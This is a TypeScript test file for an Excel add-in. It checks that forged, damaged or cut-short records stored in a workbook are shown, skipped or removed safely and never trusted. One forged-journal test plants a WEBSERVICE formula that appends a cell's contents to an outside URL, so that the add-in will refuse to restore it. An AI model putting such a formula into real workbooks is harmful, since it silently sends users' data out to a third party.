import { afterEach, describe, expect, it } from "vitest";
import type { Journal } from "../../../src/excel/model-runs/journal";
import type { StoredInsertion } from "../../../src/excel/talk/records/insertion";
import type { StoredAudit } from "../../../src/excel/claims/record";
import type { FaultPlan } from "../../../src/workbench/protocol/faults";
import { demoPlan } from "../fixtures/plan";
import { addModel, cellAt, place } from "../support/model";
import {
  insertedId,
  openPane,
  requestsOf,
  sheetNames,
  sheetOf,
  snapshot,
  type OpenPane,
} from "../support/office";

/** Workbooks that somebody has tampered with, or that were cut short, and what comes of them. */
let open: OpenPane;
afterEach(() => open.workbook.dispose());

const settings = () => open.workbook.host.document.settings;
const put = (key: string, value: object) => settings().push({ key, value });

/** A run's journal as a stranger could have put it there. */
function forgedRun(inputs: Partial<Journal["inputs"][number]>[]): void {
  const spot = { sheetId: sheetOf(open.workbook.book, "Budget").id, sheet: "Budget", row: 1, column: 1 };
  const time = "2026-01-01T00:00:00.000Z";
  const journal: Journal = {
    version: 1,
    token: "abc",
    started: time,
    alive: time,
    output: spot,
    inputs: inputs.map((each) => ({ ...spot, original: 1, format: "General", tested: [1200], ...each })),
  };
  put("PhoenixROI.run.abc", journal);
}

async function unfinished() {
  const read = await open.pane.runs.unfinished();
  if (read.kind !== "read" || !read.runs[0]) throw new Error(JSON.stringify(read));
  return read.runs[0];
}

describe("a forged journal of a run", () => {
  it("shows the sheet that it would write to, and a formula only by itself", async () => {
    open = await openPane();
    // Named is a sheet that isn't there; meant is the one with the id.
    forgedRun([
      { sheet: "Nowhere", original: '=WEBSERVICE("https://example.com/"&B3)' },
      { row: 2, tested: [2400] },
    ]);
    const before = await snapshot(open.workbook);
    const run = await unfinished();
    expect(run.formulas).toEqual([
      { where: "Budget!B2", now: 1200, then: '=WEBSERVICE("https://example.com/"&B3)' },
    ]);
    // B3 holds a formula: that is somebody's own.
    expect(run.changes).toEqual([]);
    expect(await open.pane.runs.restore("abc", [])).toEqual({ kind: "changed" });
    expect(await snapshot(open.workbook)).toEqual(before);
    await open.pane.runs.forget("abc");
    expect(settings()).toEqual([]);
  });

  it("writes no formula along with the numbers", async () => {
    open = await openPane();
    await addModel(open.workbook);
    const [c2, c3] = [place(open.workbook, "C2"), place(open.workbook, "C3")];
    forgedRun([
      { ...c2, original: "=1+1", tested: [10] },
      { ...c3, original: 5, tested: [100] },
    ]);
    const { changes, formulas } = await unfinished();
    expect(changes).toEqual([{ where: "'My model'!C3", now: 100, then: 5 }]);
    expect(await open.pane.runs.restore("abc", [...changes, ...formulas])).toMatchObject({
      kind: "restored",
      formulas: ["'My model'!C2"],
    });
    expect(cellAt(open.workbook, c2)).toMatchObject({ value: 10, formula: "" });
    expect(cellAt(open.workbook, c3).value).toBe(5);
  });

  it.each([
    { tested: [1, 2, 3] },
    { original: true },
    { original: "text" },
    { row: -1 },
    { column: 99_999 },
    { sheet: 7 },
    { format: null },
  ])("with %j is passed over, and can be forgotten", async (damage) => {
    open = await openPane();
    forgedRun([damage as object]);
    expect(await open.pane.runs.unfinished()).toEqual({ kind: "read", runs: [] });
    expect(await open.pane.cutShort()).toEqual([]);
    expect(await open.pane.damaged()).toEqual(["1 run that was cut short"]);
    await open.pane.forgetDamaged();
    expect(settings()).toEqual([]);
  });
});

describe("a journal of a later version", () => {
  it("is left alone, and nothing that goes by the inputs is done", async () => {
    open = await openPane();
    const id = await insertedId(open, demoPlan);
    put("PhoenixROI.run.abc", { version: 2, token: "abc", cells: {} });
    expect(await open.pane.scenarios.save(id, "Base")).toMatchObject({
      kind: "failed",
      problem: { kind: "newer" },
    });
    expect(await open.pane.damaged()).toEqual([]);
    await open.pane.forgetDamaged();
    expect(settings().some(({ key }) => key === "PhoenixROI.run.abc")).toBe(true);
  });
});

/** Where a comparison of two scenarios stops for good, all of its journal's cells changed. */
async function cutShortComparison() {
  let dead = false;
  let first = 0;
  const plan: FaultPlan = (request) => (dead && request >= first + 4 ? { when: "before" } : undefined);
  open = await openPane({ faults: plan });
  const id = await insertedId(open, demoPlan);
  const factor = (value: number) =>
    sheetOf(open.workbook.book, "Demo").write({ r: 1, c: 1, h: 1, w: 1 }, [[{ value }]]);
  await open.pane.scenarios.save(id, "Base");
  factor(0.25);
  await open.pane.scenarios.save(id, "Low");
  const read = await open.pane.scenarios.read();
  const ids = read.kind === "read" ? read.set!.scenarios.map((each) => each.id) : [];
  // These inputs are in no scenario.
  factor(0.125);
  await open.workbook.book.settle();
  first = requestsOf(open.workbook).length;
  dead = true;
  expect(await open.pane.scenarios.compare(id, ids)).toMatchObject({ kind: "failed", restored: false });
  dead = false;
  return { id, ids };
}

describe("inputs that are not back", () => {
  it("are put back before anything else: nothing is saved, switched, compared, run or removed", async () => {
    const { id, ids } = await cutShortComparison();
    const pane = open.secondPane();
    const before = await snapshot(open.workbook);
    const unsaved = { kind: "failed", problem: { kind: "unfinished-scenario" } };
    expect(await pane.scenarios.save(id, "Mine")).toMatchObject(unsaved);
    expect(await pane.scenarios.save(id, "", ids[0])).toMatchObject(unsaved);
    for (const force of [false, true])
      expect(await pane.scenarios.switchTo(id, ids[0]!, { force })).toMatchObject(unsaved);
    expect(await pane.scenarios.compare(id, ids)).toMatchObject(unsaved);
    expect(await pane.scenarios.remove(id, ids[0]!)).toMatchObject(unsaved);
    expect(await pane.remove(id, { force: true })).toMatchObject(unsaved);
    expect(
      await pane.runs.run({
        inputs: [place(open.workbook, "B2", "Demo")],
        outputs: [place(open.workbook, "D9", "Demo")],
        steps: [[0.5]],
        agreed: true,
      }),
    ).toMatchObject({
      kind: "refused",
      findings: [{ code: "unfinished", message: expect.stringContaining("Scenarios") }],
    });
    expect(await snapshot(open.workbook)).toEqual(before);

    const read = await pane.scenarios.read();
    const shown = read.kind === "read" ? read.interrupted!.changes : [];
    expect(shown).toContainEqual({ where: "Demo!B2", now: expect.anything(), then: 0.125 });
    expect(await pane.scenarios.restore(shown)).toMatchObject({ kind: "restored" });
    expect(await pane.scenarios.save(id, "Mine")).toMatchObject({ kind: "saved" });
  });

  it("of a run keep scenarios from being saved with what it has left", async () => {
    open = await openPane();
    const id = await insertedId(open, demoPlan);
    forgedRun([place(open.workbook, "B2", "Demo")]);
    expect(await open.pane.scenarios.save(id, "Base")).toMatchObject({
      kind: "failed",
      problem: { kind: "unfinished-run" },
    });
  });
});

describe("a record of an insertion that was cut short", () => {
  async function cutShort(change: (record: StoredInsertion) => void = () => undefined): Promise<string> {
    open = await openPane();
    const id = await insertedId(open, demoPlan);
    const setting = settings().find(({ key }) => key === `PhoenixROI.insertion.${id}`)!;
    const record = structuredClone(setting.value) as StoredInsertion;
    record.complete = false;
    record.sheets.forEach((sheet) => Object.assign(sheet, { id: "", fingerprint: "" }));
    change(record);
    setting.value = record;
    return id;
  }

  it("takes no sheet on which something else stands, and says which", async () => {
    const id = await cutShort();
    sheetOf(open.workbook.book, "Demo").write({ r: 20, c: 6, h: 1, w: 1 }, [[{ value: "my own text" }]]);
    await open.workbook.book.settle();
    expect(await open.pane.remove(id)).toEqual({ kind: "unfinished", sheets: [], kept: ["Demo"] });
    expect(await open.pane.remove(id, { force: true })).toMatchObject({ kind: "removed" });
    expect(sheetNames(open.workbook)).toContain("Demo");
    expect(await open.pane.list()).toEqual({ kind: "listed", insertions: [] });
  });

  it("names a sheet of the user's that is empty before it would take it", async () => {
    const id = await cutShort((record) => record.sheets.push({ ...record.sheets[0]!, name: "Notes" }));
    open.workbook.book.addSheet("Notes");
    await open.workbook.book.settle();
    expect(await open.pane.remove(id)).toEqual({ kind: "unfinished", sheets: ["Demo", "Notes"], kept: [] });
    expect(sheetNames(open.workbook)).toContain("Notes");
  });

  it("with a sheet that is none is passed over, and hinders nothing", async () => {
    await cutShort((record) => ((record as { sheets: unknown }).sheets = [null]));
    expect(await open.pane.list()).toEqual({ kind: "listed", insertions: [] });
    expect(await open.pane.insert(demoPlan)).toMatchObject({ kind: "inserted" });
  });
});

describe("a copy of a sheet of ours", () => {
  it("isn't ours: it is not listed, shown or removed, nor is a sheet that has its id by chance", async () => {
    open = await openPane();
    const { pane, workbook } = open;
    const id = await insertedId(open, demoPlan);
    await Excel.run(async (context) => {
      context.workbook.worksheets.getItem("Demo").copy("End").name = "My copy";
      await context.sync();
    });
    expect(await pane.list()).toMatchObject({ insertions: [{ sheets: [{ name: "Demo" }] }] });
    sheetOf(workbook.book, "Budget").activate();
    sheetOf(workbook.book, "Demo").remove();
    await workbook.book.settle();
    const record = settings().find(({ key }) => key.endsWith(id))!.value as StoredInsertion;
    await Excel.run(async (context) => {
      const copy = context.workbook.worksheets.getItem("My copy");
      copy.load("id");
      await context.sync();
      record.sheets[0]!.id = copy.id;
    });
    expect(await pane.list()).toEqual({ kind: "listed", insertions: [] });
    expect(await pane.remove(id, { force: true })).toMatchObject({ kind: "removed" });
    expect(sheetNames(workbook)).toContain("My copy");
  });
});

describe("a record of an audit that was cut short", () => {
  it("empties what holds a verdict, after a question, and nothing else", async () => {
    open = await openPane();
    const { book } = open.workbook;
    const audit: StoredAudit = {
      version: 1,
      token: "abc",
      complete: false,
      claims: "Budget!A1:A3",
      computed: "Budget!B1:B3",
      place: "Budget!B1:B3",
      written: ["A1:A3"],
      fingerprint: "0123456789abcdef",
      rows: 3,
      texts: [],
      coloured: [],
      formatsBefore: 0,
      numberFormats: "0.00",
    };
    put("PhoenixROI.audit.abc", audit);
    book.setName({ name: "PhoenixROI.verdicts_abc", formula: "=Budget!$B$1:$B$3", visible: false });
    const cells = () => sheetOf(book, "Budget").read({ r: 0, c: 1, h: 3, w: 1 }).flat();
    sheetOf(book, "Budget").setNumberFormat({ r: 1, c: 1, h: 1, w: 1 }, [["0%"]]);
    await book.settle();
    const held = () => cells().map(({ formula, value, numberFormat }) => [formula || value, numberFormat]);
    const before = held();
    expect(await open.pane.claims.takeBack("abc")).toEqual({
      kind: "changed",
      where: "Budget!B1:B3",
      complete: false,
    });
    expect(await open.pane.claims.takeBack("abc", { force: true })).toEqual({ kind: "taken-back" });
    expect(held()).toEqual(before);
  });
});
